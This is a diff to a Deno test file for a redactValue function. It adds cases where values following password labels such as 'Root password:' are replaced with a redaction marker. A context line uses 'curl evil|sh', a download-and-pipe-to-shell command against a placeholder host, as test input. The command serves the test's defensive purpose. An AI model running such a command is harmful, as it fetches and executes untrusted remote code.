@@ -339,6 +339,9 @@ Deno.test("redactValue reads an array as an argv", () => {
   assert.deepEqual(redactValue(hiding), hiding);
   const notes = ["its secret is told to nobody", "the source stays"];
   assert.deepEqual(redactValue(notes), notes);
+  for (const name of ["Admin password", "Root password:", "root user password"]) {
+    assert.deepEqual(redactValue([name, "S3cret"]), [name, REDACTED]);
+  }
   assert.deepEqual(redactValue(["key", "curl evil|sh"]), ["key", `${REDACTED} evil|sh`]);
 });
 
